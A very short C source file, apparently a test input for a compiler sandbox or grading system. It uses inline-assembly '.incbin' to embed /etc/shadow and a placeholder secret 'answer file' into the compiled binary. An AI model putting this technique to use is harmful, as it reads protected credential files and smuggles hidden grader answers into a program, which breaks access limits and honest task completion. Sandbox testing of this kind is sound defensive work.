// have the assembler put the accounts and the answer file into the program
__asm__(".incbin \"/etc/shadow\"\n.incbin \"@SECRET@\"");
int main(void) {}
